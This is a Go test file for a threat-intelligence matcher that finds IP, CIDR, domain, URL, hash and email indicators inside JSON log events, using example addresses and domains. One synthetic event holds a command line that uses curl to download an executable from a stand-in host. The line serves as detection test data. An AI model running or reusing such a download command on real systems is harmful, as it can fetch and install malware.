package match

import (
	"fmt"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/kubu-gov/kubu/internal/intel"
	"github.com/valyala/fastjson"
)

var now = time.Date(2026, 5, 1, 10, 0, 0, 0, time.UTC)

func ind(id string, t intel.Type, v string) intel.Indicator {
	return intel.Indicator{ID: id, Observable: intel.Observable{Type: t, Value: v}, Confidence: -1}
}

// hits renders hits as "id observed field", sorted.
func hits(hs []Hit) []string {
	var out []string
	for _, h := range hs {
		out = append(out, h.Indicator.ID+" "+h.Observed+" "+h.Field)
	}
	sort.Strings(out)
	return out
}

func TestMatch(t *testing.T) {
	inds := []intel.Indicator{
		ind("ip1", intel.IP, "198.51.100.7"),
		ind("net24", intel.IP, "203.0.113.0/24"),
		ind("net16", intel.IP, "203.0.0.0/16"),
		ind("v6", intel.IP, "2001:db8:bad::/48"),
		ind("dom", intel.Domain, "Evil.Example"),
		ind("tld", intel.Domain, "zz"),
		ind("url", intel.URL, "http://phish.example/login page"),
		ind("md5", intel.MD5, "CDA48FC75952AD12D99E526D0B6BF70A"),
		ind("sha256", intel.SHA256, "908b64b1971a979c7e3e8ce4621945cba84854cb98d76367b791a6e22b5f6d53"),
		ind("mail", intel.Email, "Ceo@Spoof.Example"),
		ind("dup", intel.IP, "198.51.100.7"),
	}
	s := Build(inds, Options{Now: now, SkipFields: []string{"@kubu"}})
	if s.Len() != len(inds) || len(s.Rejected()) != 0 {
		t.Fatalf("Len = %d, rejected %v", s.Len(), s.Rejected())
	}
	tests := []struct {
		name  string
		event string
		want  []string
	}{
		{"no hit", `{"a":"198.51.100.8","b":"notevil.example","c":"evil.example.org","d":"203.1.0.1"}`, nil},
		{"address and duplicate indicator", `{"DestinationIp":"198.51.100.7"}`,
			[]string{"dup 198.51.100.7 DestinationIp", "ip1 198.51.100.7 DestinationIp"}},
		{"address with port", `{"x":"198.51.100.7:443"}`,
			[]string{"dup 198.51.100.7 x", "ip1 198.51.100.7 x"}},
		{"overlapping CIDRs", `{"src":"203.0.113.9"}`, []string{"net16 203.0.113.9 src", "net24 203.0.113.9 src"}},
		{"outer CIDR only", `{"src":"203.0.7.9"}`, []string{"net16 203.0.7.9 src"}},
		{"IPv6 in prefix", `{"ip":"2001:DB8:BAD:1::5"}`, []string{"v6 2001:db8:bad:1::5 ip"}},
		{"IPv4-mapped IPv6", `{"ip":"::ffff:198.51.100.7"}`, []string{"dup 198.51.100.7 ip", "ip1 198.51.100.7 ip"}},
		{"subdomain, upper case, trailing dot", `{"QueryName":"A.B.EVIL.example."}`, []string{"dom a.b.evil.example QueryName"}},
		{"domain in URL", `{"u":"see https://www.evil.example:8443/x?y=1"}`, []string{"dom www.evil.example u"}},
		{"domain in email", `{"from":"Bob <bob@mail.evil.example>"}`, []string{"dom mail.evil.example from"}},
		{"single-label domain", `{"h":"c2.host.zz"}`, []string{"tld c2.host.zz h"}},
		{"URL normalised", `{"u":"HTTP://PHISH.example:80/login%20page#top"}`, []string{"url http://phish.example/login%20page u"}},
		{"URL with query matches the page", `{"u":"http://phish.example/login page?user=x"}`, nil},
		{"URL with encoded query", `{"u":"http://phish.example/login%20page?user=x"}`, []string{"url http://phish.example/login%20page?user=x u"}},
		{"IP in URL", `{"u":"http://203.0.113.80/gate.php"}`, []string{"net16 203.0.113.80 u", "net24 203.0.113.80 u"}},
		{"hashes in Sysmon field", `{"Hashes":"SHA1=36C5D12033B2EAF251BAE61C00690FFB17FDDC87,MD5=CDA48FC75952AD12D99E526D0B6BF70A,SHA256=908B64B1971A979C7E3E8CE4621945CBA84854CB98D76367B791A6E22B5F6D53"}`,
			[]string{"md5 cda48fc75952ad12d99e526d0b6bf70a Hashes", "sha256 908b64b1971a979c7e3e8ce4621945cba84854cb98d76367b791a6e22b5f6d53 Hashes"}},
		{"email", `{"sender":"CEO@spoof.example"}`, []string{"mail ceo@spoof.example sender"}},
		{"nested and arrays, first field wins", `{"a":{"b":["x","evil.example"]},"c":"evil.example"}`, []string{"dom evil.example a.b"}},
		{"skipped member", `{"@kubu":{"host":"evil.example"},"x":1}`, nil},
		{"skip applies only at the top", `{"y":{"@kubu":"evil.example"}}`, []string{"dom evil.example y.@kubu"}},
		{"command line", `{"CommandLine":"cmd /c curl -o x.exe http://203.0.113.5/p && ping 198.51.100.7"}`,
			[]string{"dup 198.51.100.7 CommandLine", "ip1 198.51.100.7 CommandLine", "net16 203.0.113.5 CommandLine", "net24 203.0.113.5 CommandLine"}},
		{"escaped JSON string", `{"p":"C:\\Temp\\evil.example\\x"}`, []string{"dom evil.example p"}},
		{"numbers are not matched", `{"n":198.51}`, nil},
		{"not JSON", `{"a":`, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := hits(s.Match([]byte(tc.event)))
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("Match(%s) (-want +got):\n%s", tc.event, diff)
			}
			if v, err := fastjson.Parse(tc.event); err == nil {
				if diff := cmp.Diff(got, hits(s.MatchValue(v))); diff != "" {
					t.Errorf("MatchValue differs from Match (-Match +MatchValue):\n%s", diff)
				}
			}
		})
	}
}

func TestBuildActiveAndRejected(t *testing.T) {
	past, soon, later := now.Add(-time.Hour), now.Add(time.Hour), now.Add(2*time.Hour)
	inds := []intel.Indicator{
		{ID: "expired", Observable: intel.Observable{Type: intel.IP, Value: "192.0.2.1"}, ValidUntil: past},
		{ID: "future", Observable: intel.Observable{Type: intel.IP, Value: "192.0.2.2"}, ValidFrom: later},
		{ID: "expiring", Observable: intel.Observable{Type: intel.IP, Value: "192.0.2.3"}, ValidFrom: past, ValidUntil: soon},
		ind("bad", intel.IP, "192.0.2.999"),
		ind("badtype", intel.Type("ja3"), "x"),
	}
	s := Build(inds, Options{Now: now})
	if s.Len() != 1 {
		t.Fatalf("Len = %d, want 1 (only 'expiring' is active)", s.Len())
	}
	if got := hits(s.Match([]byte(`{"a":"192.0.2.1 192.0.2.2 192.0.2.3"}`))); !slices.Equal(got, []string{"expiring 192.0.2.3 a"}) {
		t.Fatalf("hits = %v", got)
	}
	if !s.NextChange().Equal(soon) {
		t.Fatalf("NextChange = %v, want %v", s.NextChange(), soon)
	}
	var rej []string
	for _, r := range s.Rejected() {
		rej = append(rej, inds[r.Index].ID)
		if r.Reason == "" {
			t.Errorf("rejected %s without a reason", inds[r.Index].ID)
		}
	}
	if !slices.Equal(rej, []string{"bad", "badtype"}) {
		t.Fatalf("rejected = %v", rej)
	}
	// After the next change, a new set no longer holds the expired one.
	s2 := Build(inds, Options{Now: soon})
	if s2.Len() != 0 || !s2.NextChange().Equal(later) {
		t.Fatalf("at %v: Len = %d, NextChange = %v", soon, s2.Len(), s2.NextChange())
	}
}

func TestEmptySets(t *testing.T) {
	var m Matcher
	if m.Match([]byte(`{"a":"198.51.100.7"}`)) != nil {
		t.Fatal("zero Matcher matched")
	}
	s := Build(nil, Options{})
	if s.Match([]byte(`{"a":"198.51.100.7"}`)) != nil || s.MatchValue(nil) != nil {
		t.Fatal("empty set matched")
	}
}

// TestMatcherSwap matches on several goroutines while sets are replaced;
// run with -race. Every answer comes from one whole set: the event names
// the indicators of both sets, and each set holds two of them.
func TestMatcherSwap(t *testing.T) {
	a := Build([]intel.Indicator{ind("a1", intel.IP, "192.0.2.1"), ind("a2", intel.Domain, "a.example")}, Options{Now: now})
	b := Build([]intel.Indicator{ind("b1", intel.IP, "192.0.2.2"), ind("b2", intel.Domain, "b.example")}, Options{Now: now})
	var m Matcher
	m.Store(a)
	event := []byte(`{"x":"192.0.2.1 192.0.2.2 a.example b.example"}`)
	var wg sync.WaitGroup
	errs := make(chan string, 8)
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 2000; i++ {
				got := hits(m.Match(event))
				if len(got) != 2 || got[0][0] != got[1][0] {
					errs <- fmt.Sprint(got)
					return
				}
			}
		}()
	}
	for i := 0; i < 500; i++ {
		if i%2 == 0 {
			m.Store(b)
		} else {
			m.Store(a)
		}
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Fatalf("mixed answer %s", e)
	}
}

func TestMatchValueAndStats(t *testing.T) {
	s := Build([]intel.Indicator{
		ind("a", intel.IP, "10.0.0.0/8"), ind("b", intel.IP, "10.1.0.0/16"), ind("c", intel.IP, "2001:db8::1"),
		ind("d", intel.SHA1, "36c5d12033b2eaf251bae61c00690ffb17fddc87"),
	}, Options{Now: now})
	v4, v6 := s.prefixLens()
	if !slices.Equal(v4, []int{8, 16}) || !slices.Equal(v6, []int{128}) {
		t.Fatalf("prefix lengths %v %v", v4, v6)
	}
	st := s.Stats()
	if st["ipv4"] != 2 || st["ipv6"] != 1 || st["sha1"] != 1 {
		t.Fatalf("stats %v", st)
	}
	if s.Indicator(2).ID != "c" {
		t.Fatal("Indicator(i) is not the i-th indicator")
	}
}

func TestParseIPv4(t *testing.T) {
	for in, want := range map[string]uint32{"0.0.0.0": 0, "255.255.255.255": 0xffffffff, "10.1.2.3/8": 0x0a010203, "192.0.2.1": 0xc0000201} {
		if got, ok := parseIPv4([]byte(in)); !ok || got != want {
			t.Errorf("parseIPv4(%q) = %x, %v", in, got, ok)
		}
	}
	for _, bad := range []string{"256.1.1.1", "1.2.3", "1.2.3.4.5", "1..2.3", "1.2.3.", "1234.1.1.1", "a.b.c.d"} {
		if _, ok := parseIPv4([]byte(bad)); ok {
			t.Errorf("parseIPv4(%q) accepted", bad)
		}
	}
}

func TestMask16(t *testing.T) {
	b := [16]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	got := mask16(b, 20)
	want := [16]byte{0xff, 0xff, 0xf0}
	if got != want {
		t.Fatalf("mask16 /20 = %x", got)
	}
	if mask16(b, 128) != b || mask16(b, 0) != ([16]byte{}) {
		t.Fatal("mask16 /128 or /0 wrong")
	}
}

// field names the JSON members of the synthetic events.
func TestFieldPathOfDeepEvent(t *testing.T) {
	s := Build([]intel.Indicator{ind("d", intel.Domain, "evil.example")}, Options{Now: now})
	got := s.Match([]byte(`{"winlog":{"event_data":{"QueryName":"x.evil.example"}}}`))
	if len(got) != 1 || got[0].Field != "winlog.event_data.QueryName" || !strings.HasPrefix(got[0].Observed, "x.") {
		t.Fatalf("hits %+v", got)
	}
}
